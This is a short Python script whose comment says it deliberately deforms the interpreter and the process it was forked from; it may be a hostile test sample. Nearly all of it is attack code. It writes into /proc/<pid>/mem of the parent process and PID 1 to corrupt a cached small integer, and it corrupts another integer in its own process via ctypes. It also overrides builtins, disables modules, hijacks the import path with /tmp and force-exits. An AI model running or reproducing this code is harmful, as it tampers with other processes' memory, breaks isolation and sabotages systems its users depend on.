# Bends the interpreter out of shape, down to the small numbers in memory, and tries the same with the one that it was forked from.
import builtins
import ctypes
import decimal
import gc
import json
import os
import sys
import warnings

for pid in (os.getppid(), 1):
    try:
        with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            memory.seek(id(42) + 24)
            memory.write(b"\x29")
    except OSError:
        pass
os.environ["LEFT"] = "1"
sys.path.insert(0, "/tmp")
sys.setrecursionlimit(200)
sys.set_int_max_str_digits(640)
sys.modules["string"] = None
decimal.getcontext().prec = 3
json.dumps = lambda *_, **__: "left"
gc.disable()
warnings.simplefilter("error")
builtins.len = lambda _: 7
sys.settrace(lambda *_: None)
ctypes.memmove(id(43) + 24, b"\x2a", 1)
os._exit(0)
